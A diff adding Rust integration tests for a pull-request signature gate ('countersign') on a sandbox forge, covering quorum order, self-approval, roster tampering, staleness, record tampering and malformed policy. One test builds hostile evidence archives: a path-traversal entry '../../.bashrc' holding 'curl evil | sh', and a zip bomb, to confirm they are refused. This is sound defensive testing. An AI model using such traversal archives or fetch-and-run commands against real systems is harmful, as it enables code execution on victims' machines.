@@ -1,0 +1,521 @@
+//! The policy closing the loop against the sandbox forge: quorum and order,
+//! separation of duties, the base-branch roster, staleness, records kept in
+//! the ref and the comment, a bad policy and hostile evidence — each judged by
+//! the same evaluation the status and the gate use.
+
+use std::io::Write;
+use std::sync::Arc;
+
+use countersign_api::contract::{
+    ChangeRequestRef, EnrolRequest, Meaning, Review, SeenContent, SignRequest, SignatureDraft,
+};
+use countersign_api::signatures::KeychainSource;
+use countersign_api::{ForgeTarget, LocalStores, Session};
+use countersign_forge_sandbox::{RunningSandbox, Seed};
+use countersign_keychain::MemoryStore;
+use countersign_secret::Secret;
+use url::Url;
+
+const REPO: &str = "acme-medical/infusion-pump-firmware";
+const PASSWORD: &str = "correct horse battery staple";
+
+/// One person's device: their own keychain and ledger. The sandbox serves
+/// whoever is its current viewer, so each step first becomes that person.
+struct Device {
+    login: &'static str,
+    session: Session,
+}
+
+async fn device(sandbox: &RunningSandbox, login: &'static str, printed_name: &str) -> Device {
+    become_(sandbox, login);
+    let dir = std::env::temp_dir().join(format!(
+        "countersign-gate-{login}-{}-{}",
+        std::process::id(),
+        sandbox.addr().port()
+    ));
+    let _ = std::fs::remove_dir_all(&dir);
+    let local = LocalStores {
+        keychain: KeychainSource::Given(Arc::new(MemoryStore::default())),
+        ledger: dir.join("ledger.sqlite"),
+    };
+    let api_base = Url::parse(&sandbox.api_base()).unwrap();
+    let session = Session::start_with(ForgeTarget::Sandbox { api_base }, local)
+        .await
+        .unwrap();
+    session
+        .enrol(EnrolRequest {
+            printed_name: printed_name.into(),
+            password: Secret::from(PASSWORD),
+            acknowledged: true,
+        })
+        .await
+        .unwrap();
+    Device { login, session }
+}
+
+fn become_(sandbox: &RunningSandbox, login: &str) {
+    sandbox.store().write().unwrap().viewer = login.to_owned();
+}
+
+fn cr(number: u32) -> ChangeRequestRef {
+    ChangeRequestRef {
+        repo: REPO.into(),
+        number,
+    }
+}
+
+impl Device {
+    async fn sign(&self, sandbox: &RunningSandbox, number: u32, role: &str, meaning: Meaning) {
+        become_(sandbox, self.login);
+        let draft = SignatureDraft {
+            change_request: cr(number),
+            meaning,
+            reason: "Reviewed the diff, RA and test evidence".into(),
+            role: role.into(),
+        };
+        let preview = self.session.preview_signature(draft.clone()).await.unwrap();
+        self.session
+            .sign_change_request(SignRequest {
+                draft,
+                seen: SeenContent {
+                    head_sha: preview.head_sha,
+                    diff_sha256: preview.diff_sha256,
+                },
+                password: Secret::from(PASSWORD),
+            })
+            .await
+            .unwrap();
+        let pushed = self.session.push_outbox().await.unwrap();
+        assert_eq!(pushed.failed, 0, "{:?}", pushed.errors);
+    }
+}
+
+/// The latest `countersign/approval` status of a pull request's head.
+fn status_of(sandbox: &RunningSandbox, number: u64) -> (String, String) {
+    let store = sandbox.store();
+    let st = store.read().unwrap();
+    let repo = &st.repos[0];
+    let head = &repo.pull(number).unwrap().head_sha;
+    let s = repo
+        .statuses
+        .iter()
+        .rev()
+        .find(|(sha, s)| sha == head && s.context == "countersign/approval")
+        .map(|(_, s)| s.clone())
+        .expect("a countersign/approval status");
+    assert!(s.description.chars().count() <= 140, "{}", s.description);
+    (s.state, s.description)
+}
+
+async fn gate(sandbox: &RunningSandbox, number: u32) -> countersign_api::GateReport {
+    // The gate runs anywhere with a read token: a fresh session, no enrolment.
+    let api_base = Url::parse(&sandbox.api_base()).unwrap();
+    let dir = std::env::temp_dir().join(format!("countersign-gate-ci-{}", std::process::id()));
+    let local = LocalStores {
+        keychain: KeychainSource::Given(Arc::new(MemoryStore::default())),
+        ledger: dir.join("ledger.sqlite"),
+    };
+    let s = Session::start_with(ForgeTarget::Sandbox { api_base }, local)
+        .await
+        .unwrap();
+    s.gate(cr(number)).await.unwrap()
+}
+
+/// The statements in `refs/countersign/pr-<n>`, read from the sandbox's objects.
+fn statements_in_ref(sandbox: &RunningSandbox, number: u64) -> Vec<serde_json::Value> {
+    use countersign_forge_sandbox::GitObject;
+    let store = sandbox.store();
+    let st = store.read().unwrap();
+    let git = &st.repos[0].git;
+    let commit = &git.refs[&format!("refs/countersign/pr-{number}")];
+    let Some(GitObject::Commit { tree, .. }) = git.objects.get(commit) else {
+        panic!("the ref names no commit")
+    };
+    let Some(GitObject::Tree(entries)) = git.objects.get(tree) else {
+        panic!("no tree")
+    };
+    let blob = &entries.iter().find(|e| e.0 == "records.json").unwrap().3;
+    let Some(GitObject::Blob(bytes)) = git.objects.get(blob) else {
+        panic!("no blob")
+    };
+    let bundle: serde_json::Value = serde_json::from_slice(bytes).unwrap();
+    bundle["envelopes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| {
+            use base64::Engine;
+            let payload = base64::engine::general_purpose::STANDARD
+                .decode(e["payload"].as_str().unwrap())
+                .unwrap();
+            serde_json::from_slice(&payload).unwrap()
+        })
+        .collect()
+}
+
+fn standing(review: &Review) -> Vec<(String, String)> {
+    review
+        .signatures
+        .iter()
+        .map(|s| (s.printed_name.clone(), s.standing.clone()))
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn quorum_in_order_turns_the_status_green_and_the_gate_agrees() {
+    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
+    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
+    let carol = device(&sandbox, "carol-clinical", "Dr. Carol Weiss").await;
+
+    // Clinical safety signs before QA: recorded, not counted.
+    carol
+        .sign(&sandbox, 42, "clinical-safety", Meaning::Responsibility)
+        .await;
+    let (state, text) = status_of(&sandbox, 42);
+    assert_eq!(
+        (state.as_str(), text.as_str()),
+        ("pending", "0/2 — waiting for QA")
+    );
+    let g = gate(&sandbox, 42).await;
+    assert!(!g.approved);
+    assert_eq!(g.review.signatures[0].standing, "refused");
+    assert!(g.review.signatures[0]
+        .why
+        .as_deref()
+        .unwrap()
+        .contains("order"));
+
+    bob.sign(&sandbox, 42, "qa", Meaning::Approval).await;
+    assert_eq!(
+        status_of(&sandbox, 42),
+        ("pending".into(), "1/2 — waiting for Clinical Safety".into())
+    );
+
+    carol
+        .sign(&sandbox, 42, "clinical-safety", Meaning::Responsibility)
+        .await;
+    let (state, text) = status_of(&sandbox, 42);
+    assert_eq!(state, "success");
+    assert_eq!(
+        text,
+        "Approved: Bob Okafor (qa, approval), Dr. Carol Weiss (clinical-safety, responsibility)"
+    );
+    let g = gate(&sandbox, 42).await;
+    assert!(g.approved, "{:?}", g.review);
+    assert_eq!(g.records_from, "ref");
+    assert_eq!(g.records, 3);
+    assert_eq!(g.review.risk_class, "high");
+    assert_eq!(g.review.verdict, "approved");
+    // Exactly one comment and one ref for the change request.
+    let store = sandbox.store();
+    let st = store.read().unwrap();
+    assert_eq!(
+        st.repos[0]
+            .comments
+            .iter()
+            .filter(|c| c.issue == 42)
+            .count(),
+        2,
+        "one comment per signer account, each updated in place"
+    );
+    assert!(st.repos[0].git.refs.contains_key("refs/countersign/pr-42"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_signature_binds_the_evidence_the_policy_and_the_assessment() {
+    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
+    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
+    let review = bob.session.review_change_request(cr(42)).await.unwrap();
+    assert_eq!(review.my_roles, ["qa"]);
+    assert_eq!(
+        review.tests.as_ref().map(|t| (t.passed, t.failed)),
+        Some((4, 0))
+    );
+    assert_eq!(review.coverage_percent, Some(87.0));
+    let names: Vec<&str> = review.evidence.iter().map(|e| e.name.as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            "test-reports.zip/coverage/lcov.info",
+            "test-reports.zip/junit.xml"
+        ]
+    );
+    let assessment = review.assessment.clone().unwrap();
+    assert_eq!(
+        (
+            assessment.risk_before.as_str(),
+            assessment.risk_after.as_str()
+        ),
+        ("unacceptable", "acceptable")
+    );
+
+    bob.sign(&sandbox, 42, "qa", Meaning::Approval).await;
+    let records = statements_in_ref(&sandbox, 42);
+    let statement = &records[0];
+    assert_eq!(
+        statement["predicate"]["policy_digest"],
+        review.policy.digest.clone().unwrap()
+    );
+    assert_eq!(
+        statement["predicate"]["risk_assessment_digest"],
+        assessment.digest
+    );
+    let subjects: Vec<String> = statement["subject"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["name"].as_str().unwrap().to_owned())
+        .collect();
+    assert!(
+        subjects.contains(&"evidence/test-reports.zip/junit.xml".to_owned()),
+        "{subjects:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_author_cannot_approve_their_own_change() {
+    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
+    // Alice is in the QA role, and she wrote #43.
+    let alice = device(&sandbox, "alice-dev", "Alice Martin").await;
+    alice.sign(&sandbox, 43, "qa", Meaning::Approval).await;
+    let g = gate(&sandbox, 43).await;
+    assert!(!g.approved);
+    let s = &g.review.signatures[0];
+    assert_eq!(s.standing, "refused");
+    assert!(s.why.as_deref().unwrap().contains("authored"), "{s:?}");
+    assert_eq!(
+        status_of(&sandbox, 43),
+        ("pending".into(), "0/1 — waiting for QA".into())
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_signer_the_change_adds_to_the_roster_gains_nothing() {
+    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
+    let mallory = device(&sandbox, "outside-contributor", "Mallory Example").await;
+    // Mallory's key, as her enrolment recorded it.
+    let key = sandbox.store().read().unwrap().repos[0]
+        .roster_keys
+        .iter()
+        .find(|k| k.user_id == 5099)
+        .unwrap()
+        .public_key
+        .clone();
+    // #43 now also edits the policy: Mallory joins QA, with her key.
+    {
+        let store = sandbox.store();
+        let mut st = store.write().unwrap();
+        let base =
+            String::from_utf8(st.repos[0].base_files[".countersign/policy.toml"].clone()).unwrap();
+        let edited = base.replacen(
+            "name = \"qa\"\ndescription = \"QA\"\n",
+            &format!("name = \"qa\"\ndescription = \"QA\"\n[[roles.members]]\nforge = \"127.0.0.1\"\nuser_id = 5099\nlogin = \"outside-contributor\"\nprinted_name = \"Mallory Example\"\n[[roles.members.keys]]\npublic_key = \"{key}\"\n"),
+            1,
+        );
+        assert_ne!(base, edited);
+        let pr = st.repos[0]
+            .pulls
+            .iter_mut()
+            .find(|p| p.number == 43)
+            .unwrap();
+        pr.files.push(countersign_forge_sandbox::FileChange {
+            path: ".countersign/policy.toml".into(),
+            previous_path: None,
+            old: Some(base),
+            new: Some(edited),
+        });
+    }
+    mallory.sign(&sandbox, 43, "qa", Meaning::Approval).await;
+    let g = gate(&sandbox, 43).await;
+    assert!(!g.approved);
+    assert_eq!(g.review.signatures[0].standing, "refused");
+    assert!(g.review.signatures[0]
+        .why
+        .as_deref()
+        .unwrap()
+        .contains("not among the trusted keys"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_new_commit_makes_the_approval_stale() {
+    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
+    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
+    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
+    assert!(gate(&sandbox, 43).await.approved);
+    assert_eq!(status_of(&sandbox, 43).0, "success");
+    // A new commit lands: same diff, new head, CI re-runs with the same reports.
+    {
+        let store = sandbox.store();
+        let mut st = store.write().unwrap();
+        let repo = &mut st.repos[0];
+        let new_head = "c".repeat(40);
+        let pr = repo.pulls.iter_mut().find(|p| p.number == 43).unwrap();
+        let old_head = std::mem::replace(&mut pr.head_sha, new_head.clone());
+        for run in repo
+            .workflow_runs
+            .iter_mut()
+            .filter(|r| r.head_sha == old_head)
+        {
+            run.head_sha = new_head.clone();
+        }
+    }
+    let g = gate(&sandbox, 43).await;
+    assert!(!g.approved);
+    assert_eq!(
+        standing(&g.review),
+        [("Bob Okafor".to_owned(), "stale".to_owned())]
+    );
+    assert!(g.review.signatures[0]
+        .why
+        .as_deref()
+        .unwrap()
+        .contains("signed commit"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn records_survive_edits_and_deletion_but_an_edited_envelope_fails() {
+    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
+    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
+    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
+    let refs = sandbox.store().read().unwrap().repos[0].git.refs.clone();
+
+    // Without the ref, the comment carries the records, even edited around them.
+    {
+        let store = sandbox.store();
+        let mut st = store.write().unwrap();
+        st.repos[0].git.refs.clear();
+        let c = st.repos[0]
+            .comments
+            .iter_mut()
+            .find(|c| c.issue == 43)
+            .unwrap();
+        c.body = format!(
+            "Edited by a maintainer: see the audit.\n\n{}\nThanks!",
+            c.body
+        );
+    }
+    let g = gate(&sandbox, 43).await;
+    assert_eq!(g.records_from, "comment");
+    assert!(g.approved, "{:?}", g.review.signatures);
+
+    // An envelope edited inside the comment no longer verifies.
+    {
+        let store = sandbox.store();
+        let mut st = store.write().unwrap();
+        let c = st.repos[0]
+            .comments
+            .iter_mut()
+            .find(|c| c.issue == 43)
+            .unwrap();
+        let at = c.body.find("\"sig\": \"").unwrap() + 8;
+        let mut bytes = c.body.clone().into_bytes();
+        bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
+        c.body = String::from_utf8(bytes).unwrap();
+    }
+    let g = gate(&sandbox, 43).await;
+    assert!(!g.approved);
+    assert_eq!(g.review.verdict, "failed");
+    assert!(
+        g.review
+            .status_line
+            .starts_with("A record fails verification"),
+        "{}",
+        g.review.status_line
+    );
+
+    // The comment deleted, the ref back: the records are recovered from the ref.
+    {
+        let store = sandbox.store();
+        let mut st = store.write().unwrap();
+        st.repos[0].comments.retain(|c| c.issue != 43);
+        st.repos[0].git.refs = refs;
+    }
+    let g = gate(&sandbox, 43).await;
+    assert_eq!(g.records_from, "ref");
+    assert!(g.approved);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_bad_policy_blocks_with_its_line_and_column() {
+    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
+    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
+    {
+        let store = sandbox.store();
+        let mut st = store.write().unwrap();
+        let policy = st.repos[0]
+            .base_files
+            .get_mut(".countersign/policy.toml")
+            .unwrap();
+        let text = String::from_utf8(policy.clone())
+            .unwrap()
+            .replace("min_coverage = 80.0", "min_coverage = 180.0");
+        *policy = text.into_bytes();
+    }
+    bob.sign(&sandbox, 43, "qa", Meaning::Approval).await;
+    let review = bob.session.review_change_request(cr(43)).await.unwrap();
+    assert_eq!(review.verdict, "blocked");
+    let error = review.policy.error.clone().unwrap();
+    assert!(
+        error.contains("line") && error.contains("column"),
+        "{error}"
+    );
+    let (state, text) = status_of(&sandbox, 43);
+    assert_eq!(state, "failure");
+    assert!(
+        text.starts_with("Blocked by policy: policy.toml line"),
+        "{text}"
+    );
+    assert!(!gate(&sandbox, 43).await.approved);
+}
+
+fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (name, data) in entries {
+        w.start_file(*name, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        w.write_all(data).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_evidence_archives_are_refused_and_block_the_change() {
+    let sandbox = RunningSandbox::start(0, Seed::Demo).await.unwrap();
+    let bob = device(&sandbox, "bob-qa", "Bob Okafor").await;
+    let zeros = vec![0u8; 8 * 1024 * 1024];
+    for (zip, expect) in [
+        (
+            zip_of(&[
+                ("junit.xml", b"<testsuites/>"),
+                ("../../.bashrc", b"curl evil | sh"),
+            ]),
+            "escapes the archive",
+        ),
+        (zip_of(&[("junit.xml", &zeros)]), "zip bomb"),
+    ] {
+        {
+            let store = sandbox.store();
+            let mut st = store.write().unwrap();
+            st.repos[0]
+                .workflow_runs
+                .iter_mut()
+                .find(|r| r.id == 30_043)
+                .unwrap()
+                .artifacts[0]
+                .zip = zip;
+        }
+        become_(&sandbox, "bob-qa");
+        let review = bob.session.review_change_request(cr(43)).await.unwrap();
+        assert_eq!(review.verdict, "blocked", "{review:?}");
+        assert_eq!(review.evidence_problems.len(), 1);
+        let problem = &review.evidence_problems[0];
+        assert!(
+            problem.contains("test-reports.zip") && problem.contains(expect),
+            "{problem}"
+        );
+        assert!(
+            review.evidence.is_empty(),
+            "nothing from a refused archive is used"
+        );
+    }
+}
